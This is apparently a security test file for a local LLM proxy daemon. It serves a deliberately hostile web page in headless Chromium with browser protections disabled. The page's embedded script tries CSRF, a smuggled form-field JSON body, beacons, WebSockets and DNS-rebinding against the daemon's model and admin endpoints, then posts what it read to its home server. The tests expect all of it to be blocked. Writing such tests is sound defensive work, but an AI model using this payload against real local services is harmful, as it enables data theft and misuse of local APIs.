import { execFile, spawnSync } from "node:child_process";
import { mkdtempSync, rmSync } from "node:fs";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { perProtocol, startDaemon, type TestDaemon } from "../support/daemon.ts";
import { FINE, startScriptedProvider, type ScriptedProvider } from "../support/scripted-provider.ts";

// S2 with a browser: a page that tries everything a page can, on another site and under a name that was rebound to the
// daemon. Without server/guard.ts the simple posts reach the provider, and the rebound page reads everything.
const chromium = ["chromium", "chromium-browser", "google-chrome"].find(
  (name) => spawnSync(name, ["--version"], { stdio: "ignore" }).status === 0,
);
if (chromium === undefined) console.log("no chromium on the PATH: the test with a hostile page is skipped");

interface Told {
  name: string;
  outcome: string;
}

/** Runs in the page. What it could read, it tells the server it came from. */
const ATTACK = `
  const told = [];
  const tell = (name, outcome) => told.push({ name, outcome: String(outcome).slice(0, 200) });
  const body = JSON.stringify({ model: "m", max_tokens: 5, input: "hi", messages: [{ role: "user", content: "canary-from-page" }], contents: [{ parts: [{ text: "hi" }] }] });
  const paths = ["/v1/models", "/api/tags", "/openai/v1/chat/completions", "/claude/v1/messages", "/ollama/api/chat", "/openai-responses/v1/responses", "/gemini/v1beta/models/m:generateContent", "/health", "/status", "/metrics", "/admin/reload", "/api/pull", "/api/delete"];
  const ways = [
    ["get", {}],
    ["get no-cors", { mode: "no-cors" }],
    ["get with credentials", { credentials: "include" }],
    ["text/plain", { method: "POST", body, headers: { "content-type": "text/plain" } }],
    ["text/plain no-cors", { method: "POST", body, mode: "no-cors", headers: { "content-type": "text/plain" } }],
    ["form no-cors", { method: "POST", body, mode: "no-cors", headers: { "content-type": "application/x-www-form-urlencoded" } }],
    ["json", { method: "POST", body, headers: { "content-type": "application/json" } }],
    ["json with a key", { method: "POST", body, headers: { "content-type": "application/json", authorization: "Bearer x", "x-api-key": "x" } }],
    ["delete", { method: "DELETE" }],
    ["keepalive", { method: "POST", body, mode: "no-cors", keepalive: true }],
    ["no referrer", { method: "POST", body, mode: "no-cors", referrerPolicy: "no-referrer" }],
  ];
  const timely = (promise) => Promise.race([promise, new Promise((_, reject) => setTimeout(() => reject(new Error("slow")), 4000))]);
  async function run() {
    for (const path of paths) for (const [name, init] of ways) {
      try {
        const response = await timely(fetch(TARGET + path, init));
        const text = await response.text();
        tell(name + " " + path, response.type + " " + response.status + " " + text);
      } catch (error) { tell(name + " " + path, "error " + error); }
    }
    for (const path of paths) {
      navigator.sendBeacon(TARGET + path, new Blob([body], { type: "text/plain" }));
      const image = new Image();
      await timely(new Promise((done) => { image.onload = () => { tell("image " + path, "loaded"); done(); }; image.onerror = done; image.src = TARGET + path; })).catch(() => {});
      const script = document.createElement("script");
      await timely(new Promise((done) => { script.onload = () => { tell("script " + path, "loaded"); done(); }; script.onerror = done; script.src = TARGET + path; document.body.append(script); })).catch(() => {});
      const frame = document.createElement("iframe");
      frame.name = "f" + path;
      document.body.append(frame);
      const form = document.createElement("form");
      form.method = "post"; form.action = TARGET + path; form.enctype = "text/plain"; form.target = frame.name;
      const field = document.createElement("input");
      field.name = body.slice(0, -1) + ', "x": "'; field.value = '"}';
      form.append(field); document.body.append(form); form.submit();
    }
    for (const kind of ["ws", "events", "worker"]) {
      try {
        if (kind === "ws") await timely(new Promise((done) => { const socket = new WebSocket(TARGET.replace("http", "ws") + "/api/chat"); socket.onopen = () => { tell("ws", "open"); done(); }; socket.onerror = done; }));
        if (kind === "events") await timely(new Promise((done) => { const source = new EventSource(TARGET + "/v1/models"); source.onopen = () => { tell("events", "open"); done(); }; source.onerror = () => { source.close(); done(); }; }));
      } catch {}
    }
    await new Promise((done) => setTimeout(done, 500));
    await fetch(HOME + "/told", { method: "POST", body: JSON.stringify(told), mode: "no-cors" });
    document.title = "done";
  }
  run();
`;

describe.skipIf(chromium === undefined)("S2: a hostile page in a browser", () => {
  let provider: ScriptedProvider;
  let daemon: TestDaemon;
  let site: Server;
  let home = "";
  let tell: (told: Told[]) => void = () => undefined;
  let target = "";
  const profiles: string[] = [];

  beforeAll(async () => {
    provider = await startScriptedProvider(() => FINE);
    daemon = await startDaemon(perProtocol(provider.url));
    site = createServer((req, res) => {
      if (req.url === "/told") {
        let text = "";
        req.on("data", (chunk: Buffer) => (text += chunk.toString("utf8")));
        req.on("end", () => {
          res.end();
          tell(JSON.parse(text) as Told[]);
        });
        return;
      }
      res.setHeader("content-type", "text/html");
      res.end(
        `<!doctype html><title>hello</title><body><script>const TARGET=${JSON.stringify(target)},HOME=${JSON.stringify(home)};${ATTACK}</script>`,
      );
    });
    await new Promise<void>((resolve) => {
      site.listen(0, "127.0.0.1", resolve);
    });
    home = `http://127.0.0.1:${(site.address() as AddressInfo).port}`;
  });
  afterAll(async () => {
    for (const profile of profiles) rmSync(profile, { recursive: true, force: true, maxRetries: 5 });
    await daemon.close();
    await provider.close();
    await new Promise((resolve) => {
      site.close(resolve);
      site.closeAllConnections();
    });
  });

  async function visit(url: string, rules: string[]): Promise<Told[]> {
    const profile = mkdtempSync(join(tmpdir(), "ccproxy-browser-"));
    profiles.push(profile);
    const told = new Promise<Told[]>((resolve) => {
      tell = resolve;
    });
    const flags = [
      "--headless=new",
      "--no-sandbox",
      "--disable-gpu",
      "--disable-dev-shm-usage",
      "--no-first-run",
      "--disable-background-networking",
      // The browser's own guard, which others do not have, is not what is looked at here.
      "--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests,PrivateNetworkAccessSendPreflights",
      `--user-data-dir=${profile}`,
      `--host-resolver-rules=${rules.join(",")}`,
      "--remote-debugging-port=0",
      url,
    ];
    const child = execFile(chromium as string, flags, () => undefined);
    const result = await told;
    const gone = new Promise((resolve) => {
      child.on("exit", resolve);
    });
    child.kill("SIGKILL");
    await gone;
    return result;
  }

  const readable = (told: Told[]): Told[] =>
    told.filter(({ outcome }) => !outcome.startsWith("error") && !/^opaque 0 ?$/.test(outcome.trim()));

  it("from another site: nothing is read, nothing is asked of a provider", { timeout: 90_000 }, async () => {
    target = daemon.url;
    const { port } = new URL(home);
    daemon.log.length = 0;
    const told = await visit(`http://evil.example:${port}/`, ["MAP evil.example 127.0.0.1"]);
    expect(told.length).toBeGreaterThan(100);
    expect(readable(told)).toEqual([]);
    expect(provider.seen).toEqual([]);
    // It did get as far as the daemon, and no further.
    expect(daemon.log.length).toBeGreaterThan(100);
    expect(daemon.log.filter(({ status }) => status !== 403)).toEqual([]);
  });

  it(
    "under a name that leads to the daemon: nothing is read, nothing is asked of a provider",
    { timeout: 90_000 },
    async () => {
      const { port } = new URL(daemon.url);
      target = `http://rebound.example:${port}`;
      daemon.log.length = 0;
      const told = await visit(`http://evil.example:${new URL(home).port}/`, [
        "MAP evil.example 127.0.0.1",
        "MAP rebound.example 127.0.0.1",
      ]);
      expect(readable(told)).toEqual([]);
      expect(provider.seen).toEqual([]);
      expect(daemon.log.length).toBeGreaterThan(100);
      expect(daemon.log.filter(({ status }) => status !== 403)).toEqual([]);
    },
  );

  it("from the same name, rebound while the page is open", { timeout: 90_000 }, async () => {
    // The page's own origin is the daemon's: requests carry no Origin on GET, and are same-origin.
    const { port } = new URL(daemon.url);
    const inPage = await visitSame(`http://rebound.example:${port}`);
    expect(inPage).toEqual([]);
    expect(provider.seen).toEqual([]);
    expect(daemon.log.length).toBeGreaterThan(0);
    expect(daemon.log.filter(({ status }) => status !== 403)).toEqual([]);
  });

  /** What a navigation to the daemon under a foreign name shows. */
  async function visitSame(origin: string): Promise<string[]> {
    daemon.log.length = 0;
    const shown: string[] = [];
    for (const path of ["/", "/api/tags", "/v1/models", "/health"]) {
      const profile = mkdtempSync(join(tmpdir(), "ccproxy-browser-"));
      profiles.push(profile);
      const flags = [
        "--headless=new",
        "--no-sandbox",
        "--disable-gpu",
        "--disable-dev-shm-usage",
        `--user-data-dir=${profile}`,
      ];
      const rules = ["--host-resolver-rules=MAP rebound.example 127.0.0.1", "--dump-dom"];
      const dom = await new Promise<string>((resolve) => {
        execFile(
          chromium as string,
          [...flags, ...rules, origin + path],
          { timeout: 20_000 },
          (_error, out) => resolve(out),
        );
      });
      if (/Ollama is running|"status"|"models"|"data"/.test(dom)) shown.push(dom);
    }
    return shown;
  }
});
